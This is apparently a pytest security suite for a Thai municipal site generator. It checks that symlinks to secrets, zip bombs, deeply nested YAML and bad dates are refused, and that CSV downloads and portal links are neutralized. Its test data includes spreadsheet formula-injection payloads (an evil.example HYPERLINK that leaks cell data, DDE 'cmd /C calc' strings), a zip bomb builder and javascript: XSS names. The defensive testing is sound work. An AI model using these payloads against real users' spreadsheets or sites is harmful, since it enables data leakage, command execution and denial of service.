"""Hostile and broken input through the real command line (issue 19).

Every case of CASES is a copy of the small organization changed the way an
attacker or a hurried clerk would; `python -m generator build` must refuse it
with its message (Thai, then English, naming the file), exit 2, print no
traceback, and leave the previous site byte for byte as it was. The other tests
cover what builds but must be safe: spreadsheet downloads, folder names in
`build-all` and the portal's links. The README's error table lists every message.
"""

from __future__ import annotations

import csv
import io
import os
import re
import shutil
import subprocess
import sys
import zipfile
from collections.abc import Callable
from dataclasses import dataclass
from pathlib import Path

import pytest
from test_broken_input import SMALL, append, cli, edit, tree_digest
from test_multi import Links

REPO = Path(__file__).resolve().parent.parent
ORG = "organization.yml"
PHOTO = "assets/executives/chief-executive.svg"
SECRET = "prongsai-secret-do-not-publish"


def secret_file(tmp: Path) -> Path:
    """A file outside the content folder, standing for /etc/passwd or a CI runner's key."""
    path = tmp / "outside" / "id_rsa"
    path.parent.mkdir(exist_ok=True)
    path.write_text(f"{SECRET}\n", encoding="utf-8")
    return path


def link(rel: str, target: Callable[[Path, Path], Path]) -> Callable[[Path], None]:
    """Replace `rel` in the content by a symbolic link to target(content, tmp)."""

    def apply(content: Path) -> None:
        path = content / rel
        if path.is_dir() and not path.is_symlink():
            shutil.rmtree(path)
        elif path.exists() or path.is_symlink():
            path.unlink()
        path.parent.mkdir(parents=True, exist_ok=True)
        path.symlink_to(target(content, content.parent))

    return apply


def to_secret(content: Path, tmp: Path) -> Path:
    return secret_file(tmp)


def to_outside_folder(content: Path, tmp: Path) -> Path:
    return secret_file(tmp).parent


def put(rel: str, data: bytes | Callable[[Path], bytes], drop: str | None = None) -> Callable[[Path], None]:
    """Write `rel` (bytes, or made from the content folder); `drop`: a file to remove first."""

    def apply(content: Path) -> None:
        if drop:
            (content / drop).unlink()
        path = content / rel
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_bytes(data(content) if callable(data) else data)

    return apply


def sparse(rel: str, size: int) -> Callable[[Path], None]:
    def apply(content: Path) -> None:
        with open(content / rel, "wb") as handle:
            handle.truncate(size)  # no disk blocks: the size is what counts

    return apply


def zip_bomb(suffix: str) -> bytes:
    """A small valid package whose one member unpacks to 200 MB of zeros (200 KB packed)."""
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("[Content_Types].xml", "<Types/>")
        with archive.open("xl/worksheets/sheet1.xml" if suffix == ".xlsx" else "word/document.xml", "w") as member:
            block = b"\0" * (1 << 20)
            for _ in range(200):
                member.write(block)
    return buffer.getvalue()


def truncated(rel: str) -> Callable[[Path], bytes]:
    return lambda content: (content / rel).read_bytes()[:3000]


COMPLAINTS_YML = "years/2568/data/complaints.yml"
COMPLAINTS = "years/2568/data/complaints.csv"
HEADER = "ช่วงเวลา,จำนวนเรื่องที่รับ,ดำเนินการแล้วเสร็จ,อยู่ระหว่างดำเนินการ\n"
CONTRACTS = "years/2568/data/contracts.xlsx"
MEASURES = "years/2568/measures.yml"
MEMO = "years/2568/memos/measures-memo.yml"
PAGE = "pages/odd.md"
FRONT = "---\ntitle: หน้าทดสอบ\n---\nย่อหน้าแรก\n\n"
OLE = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 4000  # an old .doc/.xls


@dataclass
class Case:
    id: str
    mutate: Callable[[Path], None]
    file: str  # content-relative file named in the message ("" for the content folder)
    line_of: str | None  # text of the line the message points at (None: no line)
    field: str | None  # field path printed after file:line
    th: str  # part of the Thai message
    en: str  # part of the English message
    expect: str = "refused"  # the safe outcome: refused with this message, exit 2, site kept


OUTSIDE_TH, OUTSIDE_EN = "เป็นทางลัด (symbolic link) ที่ชี้ออกไปนอกโฟลเดอร์ content", "symbolic link that points outside content"
CASES = [
    # 1. nothing outside the content folder
    Case("symlink-asset-file", link(PHOTO, to_secret), PHOTO, None, None, OUTSIDE_TH, OUTSIDE_EN),
    Case("symlink-assets-folder", link("assets", to_outside_folder), "assets", None, None, OUTSIDE_TH, OUTSIDE_EN),
    Case("symlink-page", link("pages/secret.md", to_secret), "pages/secret.md", None, None, OUTSIDE_TH, OUTSIDE_EN),
    Case("symlink-dataset", link(COMPLAINTS, to_secret), COMPLAINTS, None, None, OUTSIDE_TH, OUTSIDE_EN),
    Case("symlink-yaml-file", link(ORG, to_secret), ORG, None, None, OUTSIDE_TH, OUTSIDE_EN),
    Case("symlink-year-folder", link("years/2569", to_outside_folder), "years/2569", None, None, OUTSIDE_TH, OUTSIDE_EN),
    Case("symlink-broken", link("assets/logo.svg", lambda c, t: t / "nowhere.svg"), "assets/logo.svg", None, None,
         "หรือชี้ไปยังสิ่งที่ไม่มีอยู่", "(or to nothing)"),
    # 3. malformed input: a message, never a traceback
    Case("yaml-1000-levels", append(ORG, "x: " + "[" * 1000 + "]" * 1000 + "\n"), ORG, "x: [[[", "x[1]…",
         "ข้อมูลซ้อนกันลึกเกิน 40 ชั้น", "nests more than 40 levels deep"),
    Case("yaml-100000-levels", append(ORG, "x: " + "[" * 100_000 + "]" * 100_000 + "\n"), ORG, "x: [[[", None,
         "ข้อมูลซ้อนกันลึกเกิน 40 ชั้น", "nests more than 40 levels deep"),  # crashed LibYAML's composer
    Case("yaml-block-200-levels", append(ORG, "x:\n" + "".join("  " * i + "- \n" for i in range(200))), ORG,
         "  " * 40 + "- ", "x[1]…", "ข้อมูลซ้อนกันลึกเกิน 40 ชั้น", "nests more than 40 levels deep"),
    Case("markdown-3000-quotes", put(PAGE, (FRONT + ">" * 3000 + " อ้างถึง\n").encode()), PAGE, ">>>", None,
         "ซ้อนกันเกิน 20 ชั้น", "nest more than 20 levels deep"),
    Case("markdown-24kb-brackets", put(PAGE, (FRONT + "[" * 24_000 + "\n").encode()), PAGE, "[[[", None,
         "มีวงเล็บเหลี่ยม [ เกิน 1000 ตัว", "more than 1000 square brackets"),
    Case("number-5000-digits", put(COMPLAINTS, (HEADER + "ไตรมาส ๑," + "9" * 5000 + ",0,0\n").encode(), COMPLAINTS_YML),
         COMPLAINTS, "ไตรมาส ๑", "จำนวนเรื่องที่รับ / received", "ไม่ใช่ตัวเลข", "is not a number"),
    Case("date-2658", edit(MEMO, "date: 20 พ.ย. 2567", "date: 20 พ.ย. 2658"), MEMO, "date: 20 พ.ย. 2658", "date",
         "เพราะปี พ.ศ. 2658 อยู่นอกช่วงที่เว็บไซต์เก็บได้ (พ.ศ. 2513–2643)", "check for a typo such as 2658 for 2568"),
    Case("date-1900", edit(MEMO, "date: 20 พ.ย. 2567", "date: 1900-01-01"), MEMO, "date: 1900-01-01", "date",
         "เพราะปี พ.ศ. 2443 อยู่นอกช่วง", "the year 2443 BE is outside"),
    Case("xlsx-empty", put(CONTRACTS, b""), CONTRACTS, None, None, "ว่างเปล่า (๐ ไบต์)", "is empty (0 bytes)"),
    Case("xlsx-truncated", put(CONTRACTS, truncated(CONTRACTS)), CONTRACTS, None, None,
         "เสียหายหรือไม่ใช่ไฟล์ .xlsx จริง", "is damaged or not really a .xlsx file"),
    Case("xlsx-renamed-xls", put(CONTRACTS, OLE), CONTRACTS, None, None,
         "เป็นรูปแบบเก่าของ Word หรือ Excel (.doc หรือ .xls) ที่ถูกเปลี่ยนชื่อเป็น .xlsx", "an old Word or Excel file"),
    Case("xlsx-zip-bomb", put(CONTRACTS, zip_bomb(".xlsx")), CONTRACTS, None, None,
         "เมื่อแตกข้อมูลออกมามีขนาดเกิน 100 เมกะไบต์", "unpacks to more than 100 MB"),
    # 4. limits
    Case("dataset-21mb", sparse(CONTRACTS, 21 * 1024 * 1024), CONTRACTS, None, None, "ไฟล์ใหญ่เกินไป", "File too large"),
    Case("asset-51mb", sparse("assets/video.mp4", 51 * 1024 * 1024), "assets/video.mp4", None, None,
         "ลดขนาดภาพหรือไฟล์ก่อนวางในโฟลเดอร์ assets", "make the picture or file smaller"),
    # 6. nothing lost silently
    Case("yaml-cell-list", edit(COMPLAINTS_YML, "ช่วงเวลา: ไตรมาส ๑ (ต.ค.–ธ.ค. ๒๕๖๗)", "ช่วงเวลา: [ไตรมาส ๑, ไตรมาส ๒]"),
         COMPLAINTS_YML, "ช่วงเวลา: [ไตรมาส", "rows[1].ช่วงเวลา", "ต้องเป็นค่าเดียว", "must be one value"),
    Case("yaml-cell-mapping", edit(COMPLAINTS_YML, "ช่วงเวลา: ไตรมาส ๑ (ต.ค.–ธ.ค. ๒๕๖๗)", "ช่วงเวลา: {ไตรมาส: 1}"),
         COMPLAINTS_YML, "ช่วงเวลา: {ไตรมาส", "rows[1].ช่วงเวลา", "แต่พบรายการหรือกลุ่มข้อมูล", "holds a list or mapping"),
    Case("yaml-cell-yes", edit(COMPLAINTS_YML, "ช่วงเวลา: ไตรมาส ๑ (ต.ค.–ธ.ค. ๒๕๖๗)", "ช่วงเวลา: yes"),
         COMPLAINTS_YML, "ช่วงเวลา: yes", "rows[1].ช่วงเวลา", "ซึ่ง YAML อ่านเป็นค่าจริง/เท็จ", "which YAML reads as true/false"),
    Case("duplicate-column", put(COMPLAINTS, (HEADER.strip() + ",ช่วงเวลา\nไตรมาส ๑,1,1,0,ไตรมาส ๒\n").encode(),
                                 COMPLAINTS_YML), COMPLAINTS, "ช่วงเวลา", "ช่วงเวลา",
         "คอลัมน์ 'ช่วงเวลา' มีสองครั้งในแถวหัวตาราง", "appears twice in the header row"),
    Case("yaml-cp874", put(MEMO, lambda c: (c / MEMO).read_text(encoding="utf-8").encode("cp874")), MEMO, None, None,
         "บันทึกด้วยรหัสอักษรไทยแบบเก่าของ Windows (TIS-620 / cp874)", "save it again as UTF-8"),
    # 7. messages a clerk can act on
    Case("colon-in-list-item", edit(MEASURES, "        - กองคลังจัดทำแบบ สขร. 1 ภายในวันที่ 10 ของเดือนถัดไป",
                                    "        - ขั้นที่ 1: กองคลังจัดทำแบบ สขร. 1"), MEASURES, "- ขั้นที่ 1:",
         "measures[1].steps.list[1].ขั้นที่ 1", "ให้ใส่เครื่องหมายคำพูดครอบข้อความทั้งบรรทัด เช่น - \"ขั้นที่ 1: กองคลังจัดทำแบบ สขร. 1\"",
         'put the whole text in quotes: - "ขั้นที่ 1: กองคลังจัดทำแบบ สขร. 1"'),
    Case("date-september-31", edit(MEMO, "date: 20 พ.ย. 2567", "date: ๓๑ กันยายน ๒๕๖๗"), MEMO, "date: ๓๑ กันยายน", "date",
         "เพราะเดือนกันยายน พ.ศ. 2567 มี 30 วัน", "September 2567 BE has 30 days"),
    Case("date-february-30", edit(MEMO, "date: 20 พ.ย. 2567", "date: 30 ก.พ. 2567"), MEMO, "date: 30 ก.พ.", "date",
         "เพราะเดือนกุมภาพันธ์ พ.ศ. 2567 มี 29 วัน", "February 2567 BE has 29 days"),
    # A deadline may be a month ("ภายในเดือน…"); a start date may not.
    Case("start-month-only", edit(MEASURES, "start: 2024-10-01", "start: ตุลาคม 2567"), MEASURES,
         "start: ตุลาคม", "measures[1].start", "ให้เขียนวันสุดท้ายของเดือน เช่น 31 ตุลาคม 2567",
         "write the month's last day, e.g. 31 ตุลาคม 2567"),
]


@pytest.fixture(scope="module")
def built(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """The previous site, built from good content, that every refused build must leave alone."""
    work = tmp_path_factory.mktemp("hardening")
    assert cli("build", "--content", SMALL, "--site-dir", work / "site", cwd=work).returncode == 0
    return work / "site"


def assert_refused(result: subprocess.CompletedProcess[str], where: str, th: str, en: str) -> None:
    out = result.stdout + result.stderr
    assert result.returncode == 2, out[-3000:]
    assert "Traceback" not in out and SECRET not in out, out[-3000:]
    lines = result.stderr.splitlines()
    assert where in lines, f"expected a line {where!r} in:\n{result.stderr[-3000:]}"
    at = lines.index(where)
    assert th in lines[at + 1] and en in lines[at + 2], result.stderr[-3000:]
    assert not re.search(r"\b[A-Z][a-zA-Z]+(Error|Exception)\b", lines[at + 1]), "an exception name in the Thai line"


def assert_site_kept(site: Path, before: str, neighbours: list[str]) -> None:
    assert tree_digest(site) == before, "the previous site changed"
    assert sorted(p.name for p in site.parent.iterdir()) == neighbours, "the build left files beside the site"
    assert not any(SECRET.encode() in p.read_bytes() for p in site.rglob("*") if p.is_file())


def header(case: Case, content: Path) -> str:
    where = f"content/{case.file}" if case.file else "content"
    if case.line_of is not None:
        text = (content / case.file).read_text(encoding="utf-8")
        where += f":{text[: text.index(case.line_of)].count(chr(10)) + 1}"
    return f"{where}: {case.field}" if case.field else where


@pytest.mark.parametrize("case", CASES, ids=[c.id for c in CASES])
def test_hostile_content_is_refused_and_the_site_kept(case: Case, built: Path, tmp_path: Path) -> None:
    content = tmp_path / "content"
    shutil.copytree(SMALL, content)
    case.mutate(content)
    before, neighbours = tree_digest(built), sorted(p.name for p in built.parent.iterdir())
    result = cli("build", "--content", content, "--site-dir", built, cwd=tmp_path)
    assert_refused(result, header(case, content), case.th, case.en)
    assert_site_kept(built, before, neighbours)


def test_a_link_inside_the_content_folder_is_fine(tmp_path: Path) -> None:
    content = tmp_path / "content"
    shutil.copytree(SMALL, content)
    (content / "assets" / "executives" / "same.svg").symlink_to("chief-executive.svg")
    result = cli("build", "--content", content, "--site-dir", tmp_path / "site", cwd=tmp_path)
    assert result.returncode == 0, result.stderr
    assert (tmp_path / "site" / "assets" / "executives" / "same.svg").read_bytes() == (content / PHOTO).read_bytes()


def test_a_content_folder_that_is_a_link_loop(tmp_path: Path) -> None:
    (tmp_path / "a").symlink_to("b")
    (tmp_path / "b").symlink_to("a")
    result = cli("build", "--content", "a", "--site-dir", tmp_path / "site", cwd=tmp_path)
    assert_refused(result, "a", "ไม่พบโฟลเดอร์ข้อมูล a หรือเป็นทางลัดที่วนกลับมาที่ตัวเอง",
                   "The content folder a does not exist or is a symbolic link loop")
    assert not (tmp_path / "site").exists()


def test_messages_name_the_folder_given_to_content(tmp_path: Path) -> None:
    content = tmp_path / "ข้อมูล-อบต"
    shutil.copytree(SMALL, content)
    link(PHOTO, to_secret)(content)
    result = cli("build", "--content", content, "--site-dir", tmp_path / "site", cwd=tmp_path)
    assert_refused(result, f"ข้อมูล-อบต/{PHOTO}", "นอกโฟลเดอร์ ข้อมูล-อบต", "outside ข้อมูล-อบต")
    (content / PHOTO).unlink()  # a photo the data names but nobody copied
    result = cli("build", "--content", content, "--site-dir", tmp_path / "site", cwd=tmp_path)
    at = next(i for i, line in enumerate(result.stderr.splitlines()) if "ไม่พบไฟล์ 'executives/" in line)
    assert_refused(result, result.stderr.splitlines()[at - 1], "วางไฟล์ไว้ในโฟลเดอร์ ข้อมูล-อบต/assets/",
                   "put it in ข้อมูล-อบต/assets/")
    assert "content/" not in result.stderr, result.stderr
    # Where to put an office's own OIT list: in the folder given, too.
    shutil.copy(SMALL / PHOTO, content / PHOTO)
    edit("site.yml", "ita_years: [2568]", "ita_years: [2568, 2570]")(content)
    result = cli("check", "--content", content, cwd=tmp_path)
    assert "ให้วางรายการที่ถูกต้องไว้ที่ ข้อมูล-อบต/oit/2570.yml" in result.stdout, result.stdout + result.stderr
    assert "put the right list in ข้อมูล-อบต/oit/2570.yml" in result.stdout


def test_a_site_folder_that_cannot_be_written(built: Path, tmp_path: Path) -> None:
    # /proc refuses new folders even to root, who ignores permission bits.
    result = cli("build", "--content", SMALL, "--site-dir", "/proc/prongsai-site", cwd=tmp_path)
    assert_refused(result, "/proc/prongsai-site", "เขียนโฟลเดอร์เว็บไซต์ /proc/prongsai-site ไม่ได้",
                   "Cannot write the site folder /proc/prongsai-site")


def test_two_builds_of_one_site_at_once(built: Path, tmp_path: Path) -> None:
    from generator.filelock import try_lock

    before, neighbours = tree_digest(built), sorted(p.name for p in built.parent.iterdir())
    lock = os.open(built.parent / f".{built.name}.lock", os.O_RDWR)
    try:
        assert try_lock(lock)  # as a build that is running holds it
        result = cli("build", "--content", SMALL, "--site-dir", built, cwd=tmp_path)
    finally:
        os.close(lock)
    assert_refused(result, str(built), "มีการสร้างเว็บไซต์นี้", "Another build of this site")
    assert_site_kept(built, before, neighbours)


def test_a_killed_build_leaves_no_lock_behind(tmp_path: Path) -> None:
    site = tmp_path / "site"
    holder = subprocess.Popen(
        [sys.executable, "-c", "import sys, time\nfrom pathlib import Path\nfrom generator.write import site_lock\n"
         "with site_lock(Path(sys.argv[1])):\n    print('held', flush=True)\n    time.sleep(60)\n", str(site)],
        cwd=REPO, stdout=subprocess.PIPE, text=True)
    try:
        assert holder.stdout is not None and holder.stdout.readline() == "held\n"
        assert cli("build", "--content", SMALL, "--site-dir", site, cwd=tmp_path).returncode == 2
    finally:
        holder.kill()  # as a power cut or kill -9 would: no code of it runs to release the lock
        holder.wait()
    result = cli("build", "--content", SMALL, "--site-dir", site, cwd=tmp_path)
    assert result.returncode == 0, result.stderr


def test_the_lock_on_windows_refuses_a_second_holder(tmp_path: Path) -> None:
    """msvcrt.locking as Windows behaves (a byte range held by another handle raises
    PermissionError), standing in where the suite runs on Linux."""
    from types import SimpleNamespace

    from generator.filelock import try_lock

    held: set[tuple[int, int]] = set()

    def locking(fd: int, mode: int, nbytes: int) -> None:
        assert (mode, nbytes, os.lseek(fd, 0, os.SEEK_CUR)) == (2, 1, 0)
        key = (os.fstat(fd).st_ino, os.lseek(fd, 0, os.SEEK_CUR))
        if key in held:
            raise PermissionError(13, "Permission denied")
        held.add(key)

    msvcrt = SimpleNamespace(LK_NBLCK=2, locking=locking)
    path = tmp_path / ".site.lock"
    first, second = os.open(path, os.O_RDWR | os.O_CREAT), os.open(path, os.O_RDWR)
    try:
        os.write(first, b"x")  # the position moved: the lock still takes the first byte
        assert try_lock(first, "msvcrt", msvcrt) is True
        assert try_lock(second, "msvcrt", msvcrt) is False
    finally:
        os.close(first)
        os.close(second)


def test_staging_folders_of_a_killed_build_are_removed(tmp_path: Path) -> None:
    site = tmp_path / "site"
    for stale in (".site.new-abc123", ".site.old-def456"):
        (tmp_path / stale / "assets").mkdir(parents=True)
    (tmp_path / ".other.new-keep").mkdir()
    result = cli("build", "--content", SMALL, "--site-dir", site, cwd=tmp_path)
    assert result.returncode == 0, result.stderr
    assert sorted(p.name for p in tmp_path.iterdir() if p.name.startswith(".")) == [
        ".other.new-keep", ".site.build", ".site.lock"]


# Spreadsheet downloads ---------------------------------------------------------------

FORMULAS = ['=HYPERLINK("https://evil.example/?"&A1,"คลิก")', "+1+2", "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0",
            "\t=1+1", "\r=1+1", "=cmd|' /C calc'!A0",
            # behind quotes or spaces a spreadsheet drops on import, or in full width
            '"=HYPERLINK(""https://evil.example/"")', "'=1+1", "\u00a0=1+1", "\u3000+1+1", "＝1+1", "\n@SUM(1)"]


def evaluated(cell: str) -> bool:
    """Whether Excel, LibreOffice or Google Sheets could evaluate this CSV cell: it starts
    with a formula character, also behind the spaces and quotes an import may trim."""
    if re.fullmatch(r"[-+]?[0-9][0-9,]*(\.[0-9]+)?", cell.strip()):
        return False  # a number
    starts = set("=+-@\t\r\n\0＝＋－＠")
    return cell[:1] in starts or (cell.lstrip(" \u00a0\u3000\"")[:1] in starts and not cell.startswith("'"))


def read_back(site: Path) -> dict[str, list[list[str]]]:
    return {str(p.relative_to(site)): list(csv.reader(io.StringIO(p.read_bytes().decode("utf-8-sig"), newline="")))
            for p in sorted(site.rglob("*.csv"))}


def write_xlsx(path: Path, rows: list[list[object]], formulas: dict[str, tuple[str, str | None]]) -> None:
    """An .xlsx of `rows`; `formulas` maps a cell ("A2") to (formula, cached text) as Excel saves
    them, or to (None, text) for a text cell ('=… typed with an apostrophe)."""
    from openpyxl import Workbook

    book = Workbook()
    for row in rows:
        book.active.append(row)
    book.save(path)
    with zipfile.ZipFile(path) as zin:
        parts = {n: zin.read(n) for n in zin.namelist()}
    sheet = parts["xl/worksheets/sheet1.xml"].decode()
    for ref, (formula, cached) in formulas.items():
        cell = (f'<c r="{ref}" t="str"><f>{formula}</f><v>{cached}</v></c>' if formula
                else f'<c r="{ref}" t="inlineStr"><is><t>{cached}</t></is></c>')
        sheet, n = re.subn(rf'<c r="{ref}"[^>]*>.*?</c>', cell, sheet, count=1)
        assert n == 1, ref
    parts["xl/worksheets/sheet1.xml"] = sheet.encode()
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as zout:
        for name, data in parts.items():
            zout.writestr(name, data)


def test_downloads_hold_no_cell_a_spreadsheet_would_evaluate(tmp_path: Path) -> None:
    from xml.sax.saxutils import escape

    content = tmp_path / "content"
    shutil.copytree(SMALL, content)
    data = content / "years" / "2568" / "data"
    (data / "complaints.yml").unlink()
    lines = ["ช่วงเวลา,จำนวนเรื่องที่รับ,ดำเนินการแล้วเสร็จ,อยู่ระหว่างดำเนินการ"]
    out = io.StringIO()
    writer = csv.writer(out, lineterminator="\n")
    writer.writerows([[f, 1, 1, 0] for f in FORMULAS])
    (data / "complaints.csv").write_text(lines[0] + "\n" + out.getvalue(), encoding="utf-8")
    # the contract list: a formula with its cached value, and a text cell that starts with "="
    from openpyxl import load_workbook

    sheet = load_workbook(data / "contracts.xlsx").worksheets[0]
    rows = [[c.value for c in r] for r in sheet.iter_rows()]
    write_xlsx(data / "contracts.xlsx", rows,
               {"B2": ('HYPERLINK("https://evil.example/","x")', escape('=HYPERLINK("https://evil.example/","x")')),
                "J2": (None, escape("=cmd|' /C calc'!A0")), "J3": (None, escape('  "@SUM(1+1)'))})
    result = cli("build", "--content", content, "--site-dir", tmp_path / "site", cwd=tmp_path)
    assert result.returncode == 0, result.stderr

    downloads = read_back(tmp_path / "site")
    assert {"2568/data/complaints.csv", "2568/data/contracts.csv"} <= downloads.keys(), downloads.keys()
    for name, table in downloads.items():
        for row in table:
            assert not [c for c in row if evaluated(c)], (name, row)
    cells = [c for table in downloads.values() for row in table for c in row]
    for formula in FORMULAS:  # kept as written (the reader trims spaces), behind the apostrophe
        assert "'" + formula.strip() in cells, formula
    assert "'=HYPERLINK(\"https://evil.example/\",\"x\")" in cells  # the cached value, neutralized
    assert "'=cmd|' /C calc'!A0" in cells
    assert any(c.startswith("'") and c.endswith('"@SUM(1+1)') for c in cells)  # behind spaces and a quote
    contracts = downloads["2568/data/contracts.csv"]
    assert any(re.fullmatch(r"[0-9,]+\.[0-9]{2}", c) or re.fullmatch(r"[๐-๙,]+\.[๐-๙]{2}", c)
               for c in contracts[1]), "numbers stay numbers"


def test_every_download_of_the_example_is_safe(example_site: Path) -> None:
    downloads = read_back(example_site)
    assert len(downloads) >= 10
    for name, table in downloads.items():
        for row in table:
            assert not [c for c in row if evaluated(c)], (name, row)


# Folder names in build-all and the portal --------------------------------------------


def test_folder_names_are_data(tmp_path: Path) -> None:
    orgs = tmp_path / "orgs"
    orgs.mkdir()
    shutil.copytree(SMALL, orgs / "alpha")
    bad = ["javascript:alert(1)", "index.html", "ALPHA", "ａｌｐｈａ", "อบต-บึงตะวัน", "Bueng Tawan"]
    for name in bad:
        shutil.copytree(SMALL, orgs / name)
    (orgs / "linked").symlink_to(orgs / "alpha")
    result = subprocess.run(
        [sys.executable, "-m", "generator", "build-all", "--orgs", str(orgs), "--out", str(tmp_path / "out"),
         "--jobs", "1"],
        cwd=tmp_path, capture_output=True, text=True, timeout=120,
        env={"PYTHONPATH": str(REPO), "PATH": "/usr/bin:/bin", "LANG": "C.UTF-8"},
    )
    assert result.returncode == 2 and "Traceback" not in result.stderr, result.stderr
    err = result.stderr
    assert "ข้ามโฟลเดอร์ 'javascript:alert(1)' เพราะชื่อโฟลเดอร์ใช้เป็นที่อยู่เว็บไม่ได้" in err
    assert "Skipped 'index.html': a folder name becomes a web address" in err
    assert "ข้ามโฟลเดอร์ 'ALPHA' เพราะชื่อซ้ำกับโฟลเดอร์ alpha" in err
    assert "Skipped 'ａｌｐｈａ': it is a twin of the folder alpha" in err
    assert "(closest valid name: -)" in err  # Thai letters and spaces have no ASCII twin
    assert "Skipped linked: it is a symbolic link" in err
    out = tmp_path / "out"
    assert sorted(p.name for p in out.iterdir()) == ["_manifests", "_portal", "alpha", "index.html"]
    parser = Links()
    parser.feed((out / "index.html").read_text(encoding="utf-8"))
    assert [h for h in parser.hrefs if not h.startswith("#")] == ["alpha/index.html"]


def test_a_manifest_entry_is_never_a_live_link(tmp_path: Path) -> None:
    out = tmp_path / "out"
    (out / "_manifests").mkdir(parents=True)
    entry = {"slug": "javascript:alert(document.domain)//", "ok": True, "name": "x"}
    (out / "_manifests" / "shard-1-of-1.json").write_text(f"[{__import__('json').dumps(entry)}]", encoding="utf-8")
    from generator.portal import write_portal

    parser = Links()
    parser.feed(write_portal(out).read_text(encoding="utf-8"))
    assert not [h for h in parser.hrefs if not h.startswith("#")]


MESSAGES = ("symlink_outside", "content_folder_missing", "site_not_writable", "build_running", "yaml_too_deep",
            "page_quotes_too_deep", "page_too_many_brackets", "date_out_of_range", "date_day_too_big",
            "date_month_only", "colon_in_text", "archive_empty", "archive_old_format", "archive_damaged",
            "archive_too_large", "asset_too_large", "dataset_cell_structure", "dataset_cell_bool",
            "dataset_duplicate_column", "file_encoding_thai", "import_encoding_unknown", "import_encoding_broken",
            "import_table_too_large", "org_folder_name",
            "org_folder_twin", "org_folder_link", "org_timeout", "org_memory", "internal_error")


def test_readme_documents_every_message() -> None:
    from generator.catalog import read_program_yaml

    catalog = read_program_yaml(REPO / "generator" / "catalog" / "messages.yml")
    readme = (REPO / "README.md").read_text(encoding="utf-8")
    section = readme.split("## ข้อความแจ้งข้อผิดพลาด", 1)[1].split("\n## ", 1)[0]
    for key in MESSAGES:
        for lang in ("th", "en"):
            # the longest fixed part of the wording (between the {filled-in} values) is in the table
            fixed = max(re.split(r"\{[^}]*\}", catalog[key][lang]), key=len).strip()
            assert fixed in section, f"README lacks {key} ({lang}): {fixed!r}"


# Shown as written, read as written ----------------------------------------------------


def test_text_is_shown_as_written_and_common_forms_are_read(tmp_path: Path) -> None:
    from tests.conftest import page_text

    content = tmp_path / "content"
    shutil.copytree(SMALL, content)
    edit(ORG, "name: นางสาวอรุณี ริมบึง", "name: King's \"Q\" a<b, c>d")(content)
    edit(MEMO, "date: 20 พ.ย. 2567", "date: 7/10/67")(content)
    result = cli("build", "--content", content, "--site-dir", tmp_path / "site", cwd=tmp_path)
    assert result.returncode == 0, result.stderr
    site = tmp_path / "site"
    executives = page_text((site / "about" / "executives" / "index.html").read_text(encoding="utf-8"))
    assert "King's \"Q\" a<b, c>d" in executives
    pages = "".join(p.read_text(encoding="utf-8") for p in site.rglob("*.html"))
    assert "&#x27;" not in pages and "&amp;#" not in pages and "&&#" not in pages
    memo = next(p for p in (site / "2568" / "memos").rglob("index.html"))
    assert "วันที่ 7 ต.ค. 2567" in page_text(memo.read_text(encoding="utf-8"))  # the site writes Arabic, abbreviated


# Importing documents ------------------------------------------------------------------


def docx_with_span(path: Path, span: int) -> None:
    import docx

    document = docx.Document()
    table = document.add_table(rows=1, cols=2)
    table.cell(0, 0).text, table.cell(0, 1).text = "มาตรการ", "ผู้รับผิดชอบ"
    document.save(path)
    with zipfile.ZipFile(path) as zin:
        parts = {n: zin.read(n) for n in zin.namelist()}
    body = parts["word/document.xml"].decode()
    parts["word/document.xml"] = body.replace("<w:tcPr>", f'<w:tcPr><w:gridSpan w:val="{span}"/>', 1).encode()
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as zout:
        for name, data in parts.items():
            zout.writestr(name, data)


IMPORTS = [
    ("docx-empty", lambda p: p.write_bytes(b""), "ว่างเปล่า (๐ ไบต์)", "is empty (0 bytes)"),
    ("docx-renamed-doc", lambda p: p.write_bytes(OLE), "เป็นรูปแบบเก่าของ Word หรือ Excel", "an old Word or Excel file"),
    ("docx-truncated", lambda p: (docx_with_span(p, 1), p.write_bytes(p.read_bytes()[:2000])),
     "เสียหายหรือไม่ใช่ไฟล์ .docx จริง", "is damaged or not really a .docx file"),
    ("docx-not-a-document", lambda p: p.write_bytes(_plain_zip()),
     "เสียหายหรือไม่ใช่ไฟล์ .docx จริง", "is damaged or not really a .docx file"),
    ("docx-zip-bomb", lambda p: p.write_bytes(zip_bomb(".docx")), "เมื่อแตกข้อมูลออกมามีขนาดเกิน 100 เมกะไบต์",
     "unpacks to more than 100 MB"),
    ("docx-span-64-columns", lambda p: docx_with_span(p, 64), "ใหญ่เกินกว่าที่อ่านได้ (เกิน 63 คอลัมน์",
     "is too large to read (over 63 columns"),
]


def _plain_zip() -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        archive.writestr("readme.txt", "ไม่ใช่เอกสาร Word")
    return buffer.getvalue()


@pytest.mark.parametrize(("name", "make", "th", "en"), IMPORTS, ids=[c[0] for c in IMPORTS])
def test_broken_documents_are_refused_by_import(name: str, make: Callable[[Path], object], th: str, en: str,
                                                 tmp_path: Path) -> None:
    source = tmp_path / "มาตรการ.docx"
    make(source)
    result = cli("import", source, "--into", tmp_path / "content", cwd=tmp_path)
    out = result.stdout + result.stderr
    assert result.returncode == 2 and "Traceback" not in out, out[-3000:]
    lines = result.stderr.splitlines()
    assert any("นำเข้าไฟล์" in line and "มาตรการ.docx" in line for line in lines), out
    at = next(i for i, line in enumerate(lines) if th in line)
    assert en in lines[at + 1], out
    assert not (tmp_path / "content").exists(), "nothing is written"


# build-all limits ---------------------------------------------------------------------


def build_all(tmp: Path, *limits: str) -> subprocess.CompletedProcess[str]:
    """`build-all` of tmp/orgs into tmp/out, one worker, with these limit options."""
    return subprocess.run(
        [sys.executable, "-m", "generator", "build-all", "--orgs", str(tmp / "orgs"), "--out", str(tmp / "out"),
         "--jobs", "1", *limits],
        cwd=tmp, capture_output=True, text=True, timeout=120,
        env={"PYTHONPATH": str(REPO), "PATH": "/usr/bin:/bin", "LANG": "C.UTF-8"},
    )


